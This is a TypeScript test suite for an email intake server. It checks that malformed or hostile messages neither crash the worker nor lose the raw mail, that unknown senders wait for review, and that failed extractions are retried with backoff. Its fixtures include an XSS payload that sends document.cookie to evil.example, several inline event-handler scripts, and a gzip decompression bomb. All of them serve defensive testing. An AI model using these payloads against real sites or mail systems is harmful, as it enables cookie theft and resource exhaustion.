import { gzipSync } from "node:zlib";
import { Effect, Exit, Layer, Scope } from "effect";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { EmailSummary } from "../../api/Email";
import { Database } from "../../server/db/Database";
import { databaseLayerFor } from "../../server/db/layer";
import { migrate } from "../../server/db/migrate";
import { parseMessage } from "../../server/mail/extract";
import { acceptMessage } from "../../server/mail/inbound/accept";
import { ExtractionFailed, Extractor } from "../../server/mail/inbound/extractor";
import { maxAttempts } from "../../server/mail/inbound/queue";
import { IntakeWorkerLive } from "../../server/mail/inbound/worker";
import { engines, freshDatabase } from "./support/databases";
import { getData, type TestUser } from "./support/product";
import {
  composeMail,
  deliver,
  eventually,
  type IntakeServer,
  intakeFamily,
  rows,
  startIntakeServer,
} from "./support/smtp";

const school = "office@highfield.sch.uk";
/** A sentence with an event, a different day for each message so none is a repeat. */
const eventOn = (day: number) =>
  `The Year 5 swimming gala will take place on ${day} March 2026 at 9:00am at Highfield Pool.`;
const eventLine = eventOn(2);

const header = (to: string, subject: string, contentType: string) =>
  [
    `From: Highfield School <${school}>`,
    `To: ${to}`,
    `Subject: ${subject}`,
    "Date: Mon, 02 Mar 2026 09:00:00 +0000",
    `Message-ID: <hostile-${subject.replace(/\W+/g, "-")}-${Date.now()}@highfield>`,
    "MIME-Version: 1.0",
    `Content-Type: ${contentType}`,
  ].join("\r\n");

const base64Lines = (bytes: Buffer) =>
  (bytes.toString("base64").match(/.{1,76}/g) ?? []).join("\r\n");

/** Messages a mail server meets in the wild, each as raw bytes. */
function hostileMessages(to: string): ReadonlyArray<{ name: string; raw: Buffer }> {
  const brokenBoundary = Buffer.from(
    [
      header(to, "Broken boundary", 'multipart/mixed; boundary="declared"'),
      "",
      "--not-the-boundary",
      "Content-Type: text/plain",
      "",
      eventOn(10),
      "--declared",
      "Content-Type: text/html",
      "",
      `<p>${eventOn(10)}`,
      // Never closed.
    ].join("\r\n"),
  );
  const badCharset = Buffer.concat([
    Buffer.from(
      `${header(to, "Bad charset", 'text/plain; charset="x-no-such-charset"')}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n`,
    ),
    Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0x00, 0x0d, 0x0a]),
    Buffer.from(eventOn(11)),
    Buffer.from([0xf0, 0x28, 0x8c, 0x28, 0x0d, 0x0a]),
  ]);
  const hugeHeaders = Buffer.from(
    [
      header(to, "Huge headers", "text/plain; charset=utf-8"),
      ...Array.from({ length: 4_000 }, (_, n) => `X-Filler-${n}: ${"y".repeat(200)}`),
      `Subject: ${"z".repeat(900)}`,
      "",
      eventOn(12),
    ].join("\r\n"),
  );
  // 64 MB of zeros compressed to a few dozen KB, named as a PDF and as a zip.
  const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024));
  const zipBomb = Buffer.from(
    [
      header(to, "Zip bomb", 'multipart/mixed; boundary="bomb"'),
      "",
      "--bomb",
      "Content-Type: text/plain; charset=utf-8",
      "",
      eventOn(13),
      "--bomb",
      'Content-Type: application/pdf; name="newsletter.pdf"',
      "Content-Transfer-Encoding: base64",
      'Content-Disposition: attachment; filename="newsletter.pdf"',
      "",
      base64Lines(bomb),
      "--bomb",
      'Content-Type: application/zip; name="photos.zip"',
      "Content-Transfer-Encoding: base64",
      'Content-Disposition: attachment; filename="photos.zip"',
      "",
      base64Lines(bomb),
      "--bomb--",
      "",
    ].join("\r\n"),
  );
  // 15 MB of binary: 20 MB once base64-encoded, as it travels.
  const large = Buffer.alloc(15 * 1024 * 1024);
  for (let i = 0; i < large.length; i += 4096) large[i] = i % 251;
  const bigAttachment = Buffer.from(
    [
      header(to, "Big attachment", 'multipart/mixed; boundary="big"'),
      "",
      "--big",
      "Content-Type: text/plain; charset=utf-8",
      "",
      eventOn(14),
      "--big",
      'Content-Type: application/octet-stream; name="video.bin"',
      "Content-Transfer-Encoding: base64",
      'Content-Disposition: attachment; filename="video.bin"',
      "",
      base64Lines(large),
      "--big--",
      "",
    ].join("\r\n"),
  );
  const script = Buffer.from(
    composeMail({
      from: school,
      to,
      subject: "Script in the HTML",
      text: eventOn(15),
      html: `<script>fetch('https://evil.example/'+document.cookie)</script><p onclick="alert(1)">${eventOn(15)}</p><img src=x onerror="alert(2)"><iframe src="javascript:alert(3)"></iframe>`,
    }),
  );
  const noHeaders = Buffer.from("\u0000\u0001 binary junk \u00ff without any header\r\n");
  return [
    { name: "broken boundaries", raw: brokenBoundary },
    { name: "bad charset", raw: badCharset },
    { name: "huge headers", raw: hugeHeaders },
    { name: "zip bomb", raw: zipBomb },
    { name: "20 MB attachment", raw: bigAttachment },
    { name: "script in the HTML", raw: script },
    { name: "no headers at all", raw: noHeaders },
  ];
}

describe.each(engines)("hostile mail on %s", (engine) => {
  let server: IntakeServer;

  beforeAll(async () => {
    server = await startIntakeServer(engine);
  });
  afterAll(async () => {
    await server?.close();
  });

  const get = <A>(user: TestUser, path: string) => getData<A>(server, user, path);

  it("never crashes the worker, keeps every raw message, and ends each with a status and a reason", async () => {
    const { user, address } = await intakeFamily(server, "hostile", [school]);
    const messages = hostileMessages(address);
    const ids: Array<string> = [];
    for (const message of messages) {
      const sent = await deliver(server.smtpPort, { to: address, from: school, raw: message.raw });
      expect(sent.response, message.name).toMatch(/^250 /);
      ids.push(/Queued as ([0-9a-f-]+)/.exec(sent.response)?.[1] as string);
    }
    const emails = await eventually(
      () => get<ReadonlyArray<EmailSummary>>(user, "/api/email?limit=100"),
      (list) =>
        ids.every((id) => list.some((email) => email.id === id && email.status !== "received")),
      90_000,
    );
    for (const [index, message] of messages.entries()) {
      const email = emails.find((entry) => entry.id === ids[index]);
      expect(email, message.name).toBeDefined();
      expect(["processed", "ignored", "failed", "review"], message.name).toContain(email?.status);
      expect(email?.statusReason, message.name).toBeTruthy();
      // The raw message is kept byte for byte.
      const stored = await rows<{ size: number; state: string }>(
        server.database,
        "select size, state from inbound_message where id = $1",
        [ids[index]],
      );
      // SMTP may add the final line break the message lacked.
      expect(stored[0]?.size, message.name).toBeGreaterThanOrEqual(message.raw.length);
      expect(stored[0]?.size, message.name).toBeLessThanOrEqual(message.raw.length + 2);
      expect(["done", "failed", "held"], message.name).toContain(stored[0]?.state);
    }
    const byName = (name: string) =>
      emails.find((email) => email.id === ids[messages.findIndex((m) => m.name === name)]);
    // Readable parts of broken mail still give their event.
    for (const name of ["script in the HTML", "zip bomb", "20 MB attachment", "huge headers"]) {
      expect(byName(name), name).toMatchObject({
        status: "processed",
        statusReason: "1 event found",
      });
    }
    expect(byName("20 MB attachment")?.attachments).toEqual([
      { name: "video.bin", type: "application/octet-stream", size: 15 * 1024 * 1024 },
    ]);
    // The HTML is stored as received (the browser sanitises it); the worker ran none of it.
    const scripted = await get<{ html: string | null }>(
      user,
      `/api/email/${byName("script in the HTML")?.id}`,
    );
    expect(scripted.html).toContain("<script>");

    // The worker is still working.
    const after = await deliver(server.smtpPort, {
      to: address,
      raw: composeMail({ from: school, to: address, subject: "Still here", text: eventOn(16) }),
    });
    const lastId = /Queued as ([0-9a-f-]+)/.exec(after.response)?.[1];
    await eventually(
      () => get<ReadonlyArray<EmailSummary>>(user, "/api/email?limit=100"),
      (list) => list.some((email) => email.id === lastId && email.status !== "received"),
    );
  }, 180_000);
});

/**
 * One message from the school accepted for a user who trusts nobody yet, on
 * a fresh database, and the intake worker running with `extractor`.
 */
async function acceptedWithWorker(
  fresh: Awaited<ReturnType<typeof freshDatabase>>,
  scope: Scope.CloseableScope,
  extractor: Layer.Layer<Extractor>,
  subject: string,
) {
  const database = await Effect.runPromise(
    Layer.buildWithScope(
      Layer.effectDiscard(migrate()).pipe(Layer.provideMerge(databaseLayerFor(fresh.config))),
      scope,
    ),
  );
  const run = <A>(effect: Effect.Effect<A, unknown, Database>) =>
    Effect.runPromise(Effect.provide(effect, database));
  await run(Effect.flatMap(Database, (db) => db.query("select 1")));
  const userId = crypto.randomUUID();
  const [id] = await run(
    acceptMessage(
      new TextEncoder().encode(
        `From: ${school}\r\nTo: x@in.localhost\r\nSubject: ${subject}\r\n\r\n${eventLine}\r\n`,
      ),
      [{ address: "x@in.localhost", userId }],
      school,
    ),
  );
  await Effect.runPromise(
    Layer.buildWithScope(
      IntakeWorkerLive("test-worker").pipe(
        Layer.provide(extractor),
        Layer.provide(Layer.succeedContext(database)),
      ),
      scope,
    ),
  );
  return { run, id };
}

describe("a message from a sender nobody trusted yet", () => {
  it("is read for its sender and subject and waits for review, never extracted", async () => {
    const fresh = await freshDatabase("pglite");
    const scope = await Effect.runPromise(Scope.make());
    try {
      let extracted = 0;
      const counting = Layer.succeed(Extractor, {
        read: (raw, timeZone) => Effect.promise(() => parseMessage(raw, { timeZone })),
        extract: () =>
          Effect.suspend(() => {
            extracted += 1;
            return Effect.die("a stranger's message must not be extracted");
          }),
      });
      const { run, id } = await acceptedWithWorker(fresh, scope, counting, "From a stranger");
      const rows = await eventually(
        () =>
          run(
            Effect.flatMap(Database, (db) =>
              db.query<{ state: string; status: string | null }>(
                `select m.state, e.status from inbound_message m
                 left join email e on e.id = m.email_id where m.id = $1`,
                [id],
              ),
            ),
          ),
        (found) => found[0]?.state !== "queued" && found[0]?.state !== "processing",
      );
      expect(rows).toEqual([{ state: "held", status: "review" }]);
      expect(extracted).toBe(0);
    } finally {
      await Effect.runPromise(Scope.close(scope, Exit.void));
      await fresh.dispose();
    }
  });
});

describe("a message the extractor keeps failing on", () => {
  it("is retried with backoff, then shown as failed with the reason, and its raw message kept", async () => {
    const fresh = await freshDatabase("pglite");
    const scope = await Effect.runPromise(Scope.make());
    try {
      let calls = 0;
      const failing = Layer.succeed(Extractor, {
        read: () =>
          Effect.suspend(() => {
            calls += 1;
            return Effect.fail(
              new ExtractionFailed({ reason: "the parser gave up", final: false }),
            );
          }),
        extract: () => Effect.die("never reached: reading failed"),
      });
      const { run, id } = await acceptedWithWorker(fresh, scope, failing, "Unreadable");
      const state = () =>
        run(
          Effect.flatMap(Database, (db) =>
            db.query<{
              state: string;
              attempts: number;
              last_error: string | null;
              delay: number;
              size: number;
            }>(
              `select state, attempts, last_error, size,
                 extract(epoch from next_attempt_at - now())::int as delay
               from inbound_message where id = $1`,
              [id],
            ),
          ),
        ).then((found) => found[0]);
      for (let attempt = 1; attempt < maxAttempts; attempt += 1) {
        const waiting = await eventually(
          state,
          (row) => row?.attempts === attempt && row.state === "queued",
        );
        expect(waiting?.last_error).toBe("the parser gave up");
        // Backing off: due later, not at once.
        expect(waiting?.delay).toBeGreaterThan(1);
        await run(
          Effect.flatMap(Database, (db) =>
            db.query("update inbound_message set next_attempt_at = now() where id = $1", [id]),
          ),
        );
      }
      const failed = await eventually(state, (row) => row?.state === "failed");
      expect(failed).toMatchObject({ attempts: maxAttempts, last_error: "the parser gave up" });
      expect(calls).toBe(maxAttempts);
      const email = await run(
        Effect.flatMap(Database, (db) =>
          db.query<{
            status: string;
            status_reason: string;
            from_address: string;
            subject: string;
          }>("select status, status_reason, from_address, subject from email where id = $1", [id]),
        ),
      );
      expect(email).toEqual([
        {
          status: "failed",
          status_reason: "Could not be read: the parser gave up",
          from_address: school,
          subject: "Unreadable",
        },
      ]);
      expect(failed?.size).toBeGreaterThan(50);
    } finally {
      await Effect.runPromise(Scope.close(scope, Exit.void));
      await fresh.dispose();
    }
  });
});
